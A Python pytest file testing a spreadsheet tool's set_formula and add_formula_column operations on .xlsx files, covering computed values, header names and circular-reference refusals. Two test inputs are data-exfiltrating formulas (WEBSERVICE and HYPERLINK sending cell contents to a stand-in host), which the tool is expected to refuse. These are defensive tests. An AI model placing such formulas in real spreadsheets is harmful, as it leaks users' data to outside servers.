"""set_formula and add_formula_column on real .xlsx files: formulas written, values computed, refusals clear."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook

from podium.apps.base import Change
from podium.apps.spreadsheets import SpreadsheetsApplication
from tests.apps.books import ORDERS, values, workbook
from tests.apps.effects_check import call_checked, kinds


async def test_formula_into_a_cell_comes_back_computed(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook(root / "o.xlsx", {"Orders": ORDERS})
    call = {"path": "o.xlsx", "cell": "F2", "formula": "=SUM(C2:C5)"}
    assert kinds(sheets, "set_formula", call) == [Change.ADD]  # an empty cell: nothing is lost
    result = await call_checked(sheets, root, "set_formula", call)
    assert result.content == {"path": "o.xlsx", "sheet": "Orders", "cell": "F2", "formula": "=SUM(C2:C5)",
                              "value": 11}
    assert load_workbook(root / "o.xlsx")["Orders"]["F2"].value == "=SUM(C2:C5)"
    again = await call_checked(sheets, root, "set_formula", call)
    assert again.content["unchanged"] is True
    over = {**call, "formula": "MAX(D2:D5)"}  # the leading "=" is supplied
    assert kinds(sheets, "set_formula", over) == [Change.EDIT] and sheets.is_sensitive("set_formula", over)
    assert (await call_checked(sheets, root, "set_formula", over)).content["value"] == 4


async def test_a_formula_on_another_sheet_by_reference(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook(root / "o.xlsx", {"Orders": ORDERS, "Summary": [["Units"]]})
    result = await call_checked(sheets, root, "set_formula", {"path": "o.xlsx", "cell": "Summary!B1",
                                                               "formula": "=SUM(Orders!C2:C5)"})
    assert result.content["sheet"] == "Summary" and result.content["value"] == 11


@pytest.mark.parametrize(("formula", "error"), [
    ('=WEBSERVICE("http://example.com/?"&A1)', "WEBSERVICE, which is not allowed"),
    ("=SUM(Nowhere!A1:A3)", "sheet 'Nowhere', which is not in the workbook (its sheets: Orders)"),
    ("=SUM(Quantity)", "'Quantity', which is neither a cell range"),
    # a header of the sheet's table: the cells it means, and the tool that takes headers
    ("=SUM(Qty)", "=SUM(Qty) names columns of the table on 'Orders' by their headers (Qty is column C; data rows "
                  "2-5): a cell's formula refers to cells (e.g. =SUM(C2) for row 2); for a column computed on every "
                  "row, call add_formula_column"),
    ("=[Qty]*price", "(Qty is column C, Price is column D; data rows 2-5): a cell's formula refers to cells (e.g. "
                     "=C2*D2 for row 2)"),
    # the cell it goes into, alone, in a range or by its sheet's name: a value that depends on itself
    ("=F1+1", "=F1+1 in F1 refers to F1, which includes F1: its value would depend on itself (a circular "
              "reference); write it into a cell it does not refer to"),
    ("=SUM(A1:F1)", "=SUM(A1:F1) in F1 refers to A1:F1, which includes F1"),
    ("=Orders!$F$1*2", "refers to Orders!$F$1, which includes F1"),
])
async def test_refused_formulas_write_nothing(sheets: SpreadsheetsApplication, root: Path, formula: str,
                                              error: str) -> None:
    workbook(root / "o.xlsx", {"Orders": ORDERS})
    result = await call_checked(sheets, root, "set_formula", {"path": "o.xlsx", "cell": "F1", "formula": formula})
    assert error in result.error
    # a formula over headers is sent to the tool that takes them, as a value a host can offer alone
    assert result.instead == (("add_formula_column",) if " is column " in error else ())


async def test_a_formula_whose_value_is_an_error_is_not_written(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook(root / "o.xlsx", {"Orders": ORDERS})
    before = (root / "o.xlsx").read_bytes()
    # a text times a number: the cells it refers to are named with what they hold, so the next call can fix it
    cell = await call_checked(sheets, root, "set_formula", {"path": "o.xlsx", "cell": "E2", "formula": "=B2*C2"})
    assert cell.error == ("set_formula: =B2*C2 gives #VALUE! in E2: B2 holds 'North', C2 holds 2. A formula whose "
                          "value is an error is not written: refer to the cells that hold the values to compute (the "
                          "table's header names its columns); for a column computed on every row of a table, "
                          "add_formula_column")
    column = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "Total",
                                                                      "formula": "=A2*D2"})
    assert "=A2*D2 gives #VALUE! in E2 and in every row under it: A2 holds 'pen', D2 holds 1.5" in column.error
    assert (root / "o.xlsx").read_bytes() == before  # nothing written
    # a column that errs on some rows only is written: those rows may be what the data holds
    mixed = [*ORDERS[:2], ["ink", "South", 3, 0]]
    workbook(root / "m.xlsx", {"Orders": mixed})
    done = await call_checked(sheets, root, "add_formula_column", {"path": "m.xlsx", "header": "Per unit",
                                                                    "formula": "=C2/D2"})
    assert done.ok and done.content["values"][1] == "#DIV/0!"


async def test_unknown_sheet_names_the_sheets(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook(root / "o.xlsx", {"Orders": ORDERS})
    result = await call_checked(sheets, root, "set_formula", {"path": "o.xlsx", "sheet": "Sales", "cell": "A1",
                                                               "formula": "=1"})
    assert "no sheet named 'Sales'; the sheets are ['Orders']" in result.error


async def test_computed_column_by_header_names(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook(root / "o.xlsx", {"Orders": [["Orders of May"], [], *ORDERS]})  # a title row above the table
    call = {"path": "o.xlsx", "header": "Total", "formula": "=[Qty]*Price"}
    result = await call_checked(sheets, root, "add_formula_column", call)
    assert result.content == {"path": "o.xlsx", "sheet": "Orders", "column": "E", "header": "Total",
                              "cells": "E4:E7", "first_formula": "=C4*D4", "values": [3, 12, 2.5, 10]}
    rows = values(root / "o.xlsx", "Orders")
    assert [row[4] for row in rows[2:]] == ["Total", "=C4*D4", "=C5*D5", "=C6*D6", "=C7*D7"]
    assert (await call_checked(sheets, root, "add_formula_column", call)).content["unchanged"] is True


async def test_a_header_of_several_words_written_bare(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook(root / "s.xlsx", {"Sales": [["Item", "Quantity", "Unit Price"], ["pens", 10, 1.5], ["ink", 2, 12]]})
    result = await call_checked(sheets, root, "add_formula_column", {"path": "s.xlsx", "header": "Total",
                                                                     "formula": "=Quantity*unit price"})
    assert result.content["first_formula"] == "=B2*C2" and result.content["values"] == [15, 24]
    # in quotes it is text, not the column
    text = await call_checked(sheets, root, "add_formula_column", {"path": "s.xlsx", "header": "Note",
                                                                   "formula": '=IF(B2>5,"Unit Price","")'})
    assert text.content["first_formula"] == '=IF(B2>5,"Unit Price","")'


async def test_computed_column_by_cells_fills_a_named_empty_column(sheets: SpreadsheetsApplication,
                                                                  root: Path) -> None:
    workbook(root / "o.xlsx", {"Orders": [[*ORDERS[0], "Amount"], *[[*row, None] for row in ORDERS[1:]]]})
    call = {"path": "o.xlsx", "header": "amount", "formula": "=C2*D2"}
    assert kinds(sheets, "add_formula_column", call) == [Change.ADD]  # its cells are empty
    result = await call_checked(sheets, root, "add_formula_column", call)
    assert result.content["column"] == "E" and result.content["values"] == [3, 12, 2.5, 10]
    assert values(root / "o.xlsx", "Orders")[0] == ["Item", "Region", "Qty", "Price", "Amount"]
    refill = {**call, "formula": "=C2*D2*2"}
    assert kinds(sheets, "add_formula_column", refill) == [Change.EDIT]  # its formulas would be written over


async def test_a_totals_row_gets_the_new_columns_sum(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook(root / "o.xlsx", {"Orders": [*ORDERS, ["Total", None, "=SUM(C2:C5)", "=SUM(D2:D5)"]]})
    result = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "Amount",
                                                                      "formula": "=[Qty]*[Price]"})
    assert result.content["cells"] == "E2:E5"
    assert result.content["total"] == {"cell": "E6", "value": 27.5}
    assert values(root / "o.xlsx", "Orders")[5] == ["Total", None, "=SUM(C2:C5)", "=SUM(D2:D5)", "=SUM(E2:E5)"]


async def test_computed_column_refusals(sheets: SpreadsheetsApplication, root: Path) -> None:
    workbook(root / "o.xlsx", {"Orders": ORDERS, "Empty": [], "Header": [["A", "B"]]})
    unknown = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
                                                                       "formula": "=[Qty]*[Cost]"})
    assert "no column 'Cost'; its columns are ['Item', 'Region', 'Qty', 'Price']" in unknown.error
    empty = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "sheet": "Empty",
                                                                     "header": "T", "formula": "=A2"})
    assert "sheet 'Empty' is empty" in empty.error
    bare = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "sheet": "Header",
                                                                    "header": "T", "formula": "=A2"})
    assert "no data rows" in bare.error
    unsafe = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
                                                                      "formula": '=HYPERLINK("http://x?"&A2)'})
    assert "HYPERLINK, which is not allowed" in unsafe.error
    # written for another row than the first data row, it would be copied down onto the wrong rows
    shifted = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
                                                                       "formula": "=C5*D5"})
    assert ("is written for the first data row, 2, and copied down: =C5*D5 refers to row 5, not to row 2; write "
            "it with the cells of row 2 or by the table's headers ([Item], [Region], [Qty], [Price])") in shifted.error
    # over a column its formula refers to, each cell would depend on itself: refused, nothing asked or written
    before = (root / "o.xlsx").read_bytes()
    circular = await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "qty",
                                                                        "formula": "=Qty*Price"})
    assert circular.error == ("add_formula_column: =C2*D2 in C2 refers to C2, which includes C2: its value would "
                              "depend on itself (a circular reference); 'qty' is the header of the column it would "
                              "fill: give the computed column a header of its own")
    assert (root / "o.xlsx").read_bytes() == before
    # a fixed cell ($ row) and the row itself are fine, as is a difference with the row above
    for fine in ("=C2*$D$2", "=C2-C1"):
        assert (await call_checked(sheets, root, "add_formula_column", {"path": "o.xlsx", "header": "T",
                                                                         "formula": fine})).error is None, fine
